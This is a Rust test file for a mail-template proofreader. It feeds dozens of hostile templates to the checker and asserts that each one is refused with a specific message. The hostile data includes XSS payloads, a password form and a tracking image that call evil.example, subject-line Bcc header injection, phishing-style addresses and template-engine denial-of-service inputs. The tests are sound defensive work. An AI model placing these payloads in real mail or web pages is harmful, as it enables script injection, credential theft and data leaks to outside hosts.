use std::time::{Duration, Instant as Stopwatch};

use super::*;

const LANGS: [Lang; 2] = [Lang::Zh, Lang::En];

fn shipped(mail: &str) -> Parts {
    Parts::shipped(mail, Lang::Zh).unwrap()
}

/// The mistakes of the shipped text of a mail with one part exchanged.
fn mistakes(part: Part, source: &str) -> Vec<Mistake> {
    let mut parts = shipped("task-assigned");
    match part {
        Part::Subject => parts.subject = source.to_owned(),
        Part::Text => parts.text = source.to_owned(),
        Part::Html => parts.html = source.to_owned(),
    }
    proofread("task-assigned", Lang::Zh, &parts).err().unwrap_or_default()
}

#[test]
fn what_is_shipped_is_in_order_and_says_the_same_as_before() {
    let templates = super::super::templates::Templates::shipped().unwrap();
    for sample in MailContext::samples() {
        for lang in LANGS {
            let parts = Parts::shipped(sample.name(), lang).unwrap();
            let own = proofread(sample.name(), lang, &parts).unwrap_or_else(|m| panic!("{}: {m:#?}", sample.name()));
            let frame = sample_frame(lang);
            let (ours, theirs) = (own.render(&sample, &frame).unwrap(), templates.render(&sample, &frame).unwrap());
            assert_eq!((ours.subject, ours.text, ours.html), (theirs.subject, theirs.text, theirs.html));
        }
    }
}

/// A part, a hostile template for it, and words of the sentence that refuses it.
type Hostile = (Part, String, &'static str);

fn text(source: &str, words: &'static str) -> Hostile {
    (Part::Text, format!("{source}\n{{{{> foot}}}}\n"), words)
}

fn html(source: &str, words: &'static str) -> Hostile {
    (Part::Html, format!("{{{{> head}}}}\n{source}\n{{{{> foot}}}}\n"), words)
}

/// What would take the process down, or say what the mail does not have.
fn against_the_engine() -> Vec<Hostile> {
    let nested = format!("{}{}", "{{#if step}}".repeat(2000), "{{/if}}".repeat(2000));
    vec![
        text("{{#*inline \"a\"}}{{> a}}{{/inline}}{{> a}}", "know {{name}}"),
        text("{{> body}}", "has no “body”"),
        text("{{> @partial-block}}", "has no “@partial-block”"),
        text("{{* decorate}}", "know {{name}}"),
        text("{{{project}}}", "two braces"),
        html("{{&project}}", "two braces"),
        html("{{~{project}~}}", "two braces"),
        text("{{{{raw}}}}{{project}}{{{{/raw}}}}", "two braces"),
        text("{{#each this}}{{#each this}}x{{/each}}{{/each}}", "know {{name}}"),
        text("{{#with project}}{{../recipient}}{{/with}}", "know {{name}}"),
        text("{{lookup project 'constructor'}}", "know {{name}}"),
        text("{{log}}", "has no “log”"),
        text("{{referral}}", "has no “referral”"),
        text("{{#if stepp}}x{{/if}}", "Did you mean “step”?"),
        text("{{#if step}}", "no counterpart"),
        text("{{step", "no counterpart"),
        text(&nested, "nest deeper"),
        text(&"x".repeat(70_000), "64 KB"),
        text(&"{{project}}".repeat(5000), "more than 500 tags"),
        html(&"{{project}}".repeat(300), "256 KB"),
        text(&format!("{{{{step {}1{}}}}}", "(".repeat(9000), ")".repeat(9000)), "know {{name}}"),
    ]
}

/// What would load, run or send something.
fn against_the_reader() -> Vec<Hostile> {
    vec![
        html("<script>alert(1)</script>", "no <script>"),
        html("<SCRIPT SRC=//evil.example></SCRIPT>", "no <script>"),
        html("<img src=\"https://evil.example/{{recipient}}.png\">", "no <img>"),
        html("<svg onload=\"alert(1)\"></svg>", "no <svg>"),
        html("<p onclick=\"alert(1)\">x</p>", "“onclick”"),
        html("<form action=\"https://evil.example\"><input name=\"password\"></form>", "no <form>"),
        html("<iframe src=\"x\"></iframe>", "no <iframe>"),
        html("<meta http-equiv=\"refresh\" content=\"0\">", "no <meta>"),
        html("<base href=\"x\">", "no <base>"),
        html("<style>p{color:red}</style>", "no <style>"),
        html("<link rel=\"stylesheet\" href=\"x\">", "no <link>"),
        html("<a href=\"https://evil.example/\">打开</a>", "leads to the page of the mail"),
        html("<a href=\"javascript:alert(1)\">打开</a>", "leads to the page of the mail"),
        html("<a href=\"{{project}}\">打开</a>", "leads to the page of the mail"),
        html("<a href=\"{{link}}?next={{project}}\">打开</a>", "leads to the page of the mail"),
        html("<p {{project}}>x</p>", "inside a tag"),
        html("<p title={{project}}>x</p>", "inside a tag"),
        html("<p style=\"color:{{project}}\">x</p>", "inside a tag"),
        html("<{{project}}>", "&lt;"),
        html("<{{#if step}}script{{/if}}>", "&lt;"),
        html("<p style=\"background:url(https://evil.example/x)\">x</p>", "loads nothing"),
        html("<p style=\"width:expression(alert(1))\">x</p>", "loads nothing"),
        html("<p style=\"background:\\75rl(x)\">x</p>", "loads nothing"),
        html("<p style=\"position:fixed;top:0\">x</p>", "covers nothing"),
        html("<!--[if mso]><script></script><![endif]-->", "No HTML comments"),
        html("<p style='color:red>x</p>", "is not closed"),
        html("&#x3c;script&#x3e;", "write the character itself"),
        html("https&colon;//evil.example", "write the character itself"),
        html("{{#if step}}<div>{{/if}}<p>x</p>", "<div> is not closed"),
        html("</td></tr></table></body>", "ends nothing"),
        html("{{> case}}", "inside <table>"),
        html("{{> head}}", "begins with {{> head}}"),
    ]
}

/// What a mail may not say, and what it must.
fn against_the_rules() -> Vec<Hostile> {
    vec![
        text("请登录 http://evil.example/ 核实", "only address"),
        text("请登录www.evil.example核实", "only address"),
        text("evil-bank.com", "only address"),
        text("写信给 someone@example.org", "only address"),
        text("请联系13800138000", "identity number"),
        html("<p>身份证11010519491231002X</p>", "identity number"),
        text("付款\u{202E}知通", "invisible"),
        (Part::Text, "您好，请办理。".to_owned(), "does not show its link"),
        (Part::Text, "公告。".repeat(7000), "does not show its link"),
        (Part::Text, "{{#if to_fill}}{{link}}{{/if}}".to_owned(), "does not show its link"),
        (Part::Html, "<p>{{link}}</p>".to_owned(), "begins with {{> head}}"),
        (Part::Subject, "待办\nBcc: someone".to_owned(), "one line"),
        (Part::Subject, "项".repeat(130), "longer than 120"),
        (Part::Subject, "{{#if to_fill}}{{/if}}".to_owned(), "subject is empty"),
        (Part::Subject, "x".repeat(1001), "1000 bytes"),
        (Part::Subject, "{{> foot}}".to_owned(), "longer than 120"),
    ]
}

fn hostile() -> Vec<Hostile> {
    [against_the_engine(), against_the_reader(), against_the_rules()].concat()
}

#[test]
fn hostile_templates_are_refused_within_a_fifth_of_a_second_and_the_process_lives() {
    let hostile = hostile();
    assert!(hostile.len() >= 60, "{}", hostile.len());
    for (part, source, words) in hostile {
        let (began, shown) = (Stopwatch::now(), source.chars().take(80).collect::<String>());
        let found = mistakes(part, &source);
        assert!(began.elapsed() < Duration::from_millis(200), "{shown}: {:?}", began.elapsed());
        assert!(found.iter().any(|m| m.part == part && m.text.en.contains(words)), "{shown}: {found:#?}");
        assert!(found.iter().all(|m| !m.text.zh.is_empty() && m.text.zh.ends_with(['。', '？'])), "{found:#?}");
    }
}

#[test]
fn every_mistake_of_every_part_is_told_at_once_at_its_place() {
    let parts = Parts {
        subject: "待办：{{proyect}}".to_owned(),
        text: "您好\n{{#if step}}\n{{> foot}}\n".to_owned(),
        html: "{{> head}}\n<p>{{deadlin}}</p>\n  <img>\n{{> foot}}\n".to_owned(),
    };
    let found = proofread("task-assigned", Lang::Zh, &parts).unwrap_err();
    let places: Vec<_> = found.iter().map(|m| (m.part.name(), m.line, m.column)).collect();
    assert_eq!(places, [("subject", 1, 4), ("text", 2, 1), ("html", 2, 4), ("html", 3, 3)], "{found:#?}");
    assert!(found[0].text.zh.contains("是不是“project”"), "{found:#?}");
}

#[test]
fn what_a_district_would_write_passes() {
    let parts = Parts {
        subject: "【滨江区】请办理：{{project}}".to_owned(),
        text: "{{recipient}}同志：\n\n{{#if deadline}}请于{{deadline}}前办理。{{else}}请及时办理。{{/if}}\n\n\
               绩效科座机：022-12345678，A < B。\n{{> case}}\n{{> foot}}\n"
            .to_owned(),
        html:
            "{{> head}}\n<p style=\"margin:0 0 20px;color:rgb(20, 30, 40)\">{{step}} &amp; <b>{{sender}}</b><br></p>\n\
               <table role=\"presentation\" width='100%'>{{> case}}\n{{#if deadline}}<tr><td>时限</td><td>{{deadline}}\
               </td></tr>{{/if}}</table>\n<p><a href=\"{{link}}\">办理</a></p>\n{{> foot}}\n"
                .to_owned(),
    };
    let own = proofread("task-assigned", Lang::Zh, &parts).unwrap_or_else(|m| panic!("{m:#?}"));
    let sample = samples("task-assigned").remove(0);
    let written = preview(&own, &sample, Lang::Zh).unwrap();
    assert!(written.subject.starts_with("【滨江区】请办理："), "{}", written.subject);
    assert!(written.html.contains("<b>") && written.text.contains("陈晓同志"), "{}", written.html);
}

#[test]
fn what_a_name_stands_for_never_becomes_markup() {
    let own = proofread("task-assigned", Lang::Zh, &shipped("task-assigned")).unwrap();
    let mut view = sample_view(&samples("task-assigned")[0], Lang::Zh);
    view["project"] = Value::String("<script>alert(1)</script>\" onclick=\"x".to_owned());
    let written = own.render_view(&view).unwrap();
    assert!(!written.html.contains("<script>") && !written.html.contains("\" onclick"), "{}", written.html);
}
